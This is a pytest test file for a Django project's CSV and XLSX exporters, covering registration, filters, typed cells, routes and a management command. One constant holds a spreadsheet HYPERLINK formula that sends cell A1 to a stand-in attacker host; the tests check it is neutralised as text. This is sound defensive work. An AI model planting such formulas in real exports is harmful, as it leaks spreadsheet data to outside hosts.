"""cbcoord.core.exporters: the file head, typed cells, text that stays text, the checks that
make an export refuse, and the view, API route and command every exporter gets."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from django.http import Http404
from django.test import Client
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from cbcoord.core import exporters
from cbcoord.core.exporters import Column, Exporter, ExportError
from cbcoord.core.filters import FilterProblem, FilterSet, filter_field

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


class ToyFilters(FilterSet):
    colour: str | None = filter_field(None, title=gettext_lazy("Colour"), description="A colour.")

    def problems(self, user: Any = None) -> list[FilterProblem]:
        if self.colour and self.colour not in ("red", "blue"):
            return [FilterProblem("colour", self.colour, f"unknown colour {self.colour}")]
        return []


ROWS = [
    ["red", "Plain title", dt.date(2024, 1, 15), Decimal("1234567.50"), 3, True,
     dt.datetime(2024, 6, 1, 10, 30, tzinfo=dt.UTC), ["DO", "HT"]],
    ["blue", FORMULA, None, None, None, False, None, []],
    ["red", "-minus and @at", dt.date(2025, 12, 31), Decimal("-5"), 0, False, None, ["JM"]],
]  # fmt: skip


class ToyExporter(Exporter):
    identifier = "toy-things"
    title = gettext_lazy("Toy things")
    filters = ToyFilters
    columns = (
        Column("colour", gettext_lazy("Colour")),
        Column("title", gettext_lazy("Title")),
        Column("start", gettext_lazy("Start"), "date"),
        Column("amount", gettext_lazy("Amount"), "money"),
        Column("count", gettext_lazy("Count"), "int"),
        Column("flag", gettext_lazy("Flag"), "bool"),
        Column("when", gettext_lazy("When"), "datetime"),
        Column("codes", gettext_lazy("Codes")),
    )

    def rows(self, *, user: Any, filters: Any) -> Iterable[Sequence[Any]]:
        return [row for row in ROWS if not filters.colour or row[0] == filters.colour]


@pytest.fixture
def toy() -> Iterator[type[Exporter]]:
    exporters.register(ToyExporter)
    yield ToyExporter
    exporters._REGISTRY.pop(ToyExporter.identifier)


def _xlsx(content: bytes) -> tuple[dict[str, Any], list[Any], list[list[Any]]]:
    """(head, header row, data rows as cells) of an exported workbook."""
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows())
    blank = next(i for i, row in enumerate(rows) if all(cell.value is None for cell in row))
    head = {row[0].value: row[1].value for row in rows[:blank]}
    return head, [cell.value for cell in rows[blank + 1]], [list(row) for row in rows[blank + 2 :]]


def _csv(content: bytes) -> tuple[dict[str, str], list[str], list[list[str]]]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads the file as UTF-8
    lines = list(csv.reader(io.StringIO(text[1:])))
    blank = lines.index([])
    head = {row[0].removeprefix("# "): row[1] for row in lines[:blank]}
    return head, lines[blank + 1], lines[blank + 2 :]


def test_register_refuses_two_exporters_of_one_name(toy: type[Exporter]) -> None:
    class Other(ToyExporter):
        pass

    with pytest.raises(ValueError, match="toy-things"):
        exporters.register(Other)
    assert exporters.exporter_for("toy-things").identifier == "toy-things"
    with pytest.raises(Http404):
        exporters.exporter_for("no-such-export")


def test_prepare_checks_format_and_filters(toy: type[Exporter], reference: None) -> None:
    exporter, filters = exporters.prepare("toy-things", "csv", user=None, params={"colour": "red"})
    assert filters.colour == "red"
    with pytest.raises(ExportError) as error:
        exporters.prepare("toy-things", "pdf", user=None, params={})
    assert error.value.field == "format" and "pdf" in str(error.value)
    with pytest.raises(ExportError) as error:
        exporters.prepare("toy-things", "csv", user=None, params={"colour": "green"})
    assert error.value.field == "colour" and "unknown colour green" in str(error.value)


def test_xlsx_has_the_head_typed_cells_and_text_that_stays_text(toy: type[Exporter]) -> None:
    buffer = io.BytesIO()
    filters, _raw, _problems = ToyFilters.from_query({})
    assert exporters.write_xlsx(ToyExporter(), buffer, user=None, filters=filters) == 3
    head, header, rows = _xlsx(buffer.getvalue())
    assert head["Export"] == "Toy things" and head["By"] == "the public"
    assert head["Filters"] == "none"
    assert header == ["Colour", "Title", "Start", "Amount", "Count", "Flag", "When", "Codes"]
    first, second, third = rows
    assert first[2].is_date and first[2].value.date() == dt.date(2024, 1, 15)
    assert first[3].value == 1234567.5 and first[3].number_format == "#,##0.00"
    assert first[4].value == 3 and first[5].value is True
    assert first[6].value.isoformat() == "2024-06-01T10:30:00"  # local time (UTC), no zone
    assert first[7].value == "DO; HT"
    # A formula from a publisher's title is a text cell, unchanged: Excel shows it, runs nothing.
    assert second[1].value == FORMULA and second[1].data_type == "s"
    assert third[1].value == "-minus and @at" and third[1].data_type == "s"
    assert second[2].value is None and second[3].value is None


def test_csv_has_the_head_and_guards_formulas(toy: type[Exporter]) -> None:
    filters = ToyFilters(colour="blue")
    content = "".join(exporters.iter_csv(ToyExporter(), user=None, filters=filters)).encode()
    head, header, rows = _csv(content)
    assert head["Filter: Colour"] == "blue"
    assert header[0] == "Colour"
    assert rows == [["blue", "'" + FORMULA, "", "", "", "no", "", ""]]
    filters = ToyFilters(colour="red")
    content = "".join(exporters.iter_csv(ToyExporter(), user=None, filters=filters)).encode()
    _head, _header, rows = _csv(content)
    assert rows[0][2:6] == ["2024-01-15", "1234567.50", "3", "yes"]
    assert rows[1][1] == "'-minus and @at" and rows[1][3] == "-5"  # numbers stay numbers


def test_a_filter_value_in_the_head_stays_text(toy: type[Exporter]) -> None:
    class Search(FilterSet):
        q: str | None = filter_field(None, title=gettext_lazy("Search"), description="")

    class Searching(ToyExporter):
        filters = Search

        def rows(self, *, user: Any, filters: Any) -> Iterable[Sequence[Any]]:
            return ROWS

    buffer = io.BytesIO()
    exporters.write_xlsx(Searching(), buffer, user=None, filters=Search(q="=1+1"))
    head, _header, _rows = _xlsx(buffer.getvalue())
    assert head["Filter: Search"] == "=1+1"


def test_view_api_and_command(
    toy: type[Exporter], client: Client, reference: None, tmp_path: Path
) -> None:
    response = client.get("/exports/toy-things.xlsx", {"colour": "red"})
    assert response.status_code == 200
    assert response["Content-Type"] == exporters.CONTENT_TYPES["xlsx"]
    assert 'filename="cbcoord-toy-things-' in response["Content-Disposition"]
    _head, _header, rows = _xlsx(b"".join(response.streaming_content))
    assert [row[0].value for row in rows] == ["red", "red"]

    response = client.get("/api/exports/toy-things", {"format": "csv", "colour": "blue"})
    assert response.status_code == 200
    _head, _header, rows = _csv(b"".join(response.streaming_content))
    assert [row[0] for row in rows] == ["blue"]

    bad = client.get("/api/exports/toy-things", {"format": "csv", "colour": "green"})
    assert bad.status_code == 400
    assert bad.json()["detail"] == "colour=green: unknown colour green"
    assert bad.json()["field"] == "colour"
    assert client.get("/exports/toy-things.pdf").status_code == 400
    assert "pdf" in client.get("/exports/toy-things.pdf").content.decode()
    assert client.get("/exports/nothing.csv").status_code == 404
    listed = {item["identifier"]: item for item in client.get("/api/exports").json()}
    assert listed["toy-things"]["filters"][0]["name"] == "colour"

    out = tmp_path / "toy.xlsx"
    call_command("export", "toy-things", "-o", str(out), "--colour", "blue")
    head, _header, rows = _xlsx(out.read_bytes())
    assert head["By"] == "cbcoord" and [row[0].value for row in rows] == ["blue"]
    with pytest.raises(CommandError, match="unknown colour green"):
        call_command("export", "toy-things", "-o", str(tmp_path / "x.csv"), "--colour", "green")
    with pytest.raises(CommandError, match="format"):
        call_command("export", "toy-things", "-o", str(tmp_path / "x.pdf"))


def test_download_links_keep_the_query(toy: type[Exporter], reference: None) -> None:
    links = exporters.download_links("toy-things", ToyFilters(colour="red"))
    assert links == {
        "csv": "/exports/toy-things.csv?colour=red",
        "xlsx": "/exports/toy-things.xlsx?colour=red",
    }
    assert exporters.download_links("toy-things", {}, formats=("csv",)) == {
        "csv": "/exports/toy-things.csv"
    }


def test_format_of() -> None:
    assert exporters.format_of("out.XLSX", None, ("csv", "xlsx")) == "xlsx"
    assert exporters.format_of("", "csv", ("csv", "xlsx")) == "csv"
    with pytest.raises(ExportError):
        exporters.format_of("out", None, ("csv", "xlsx"))
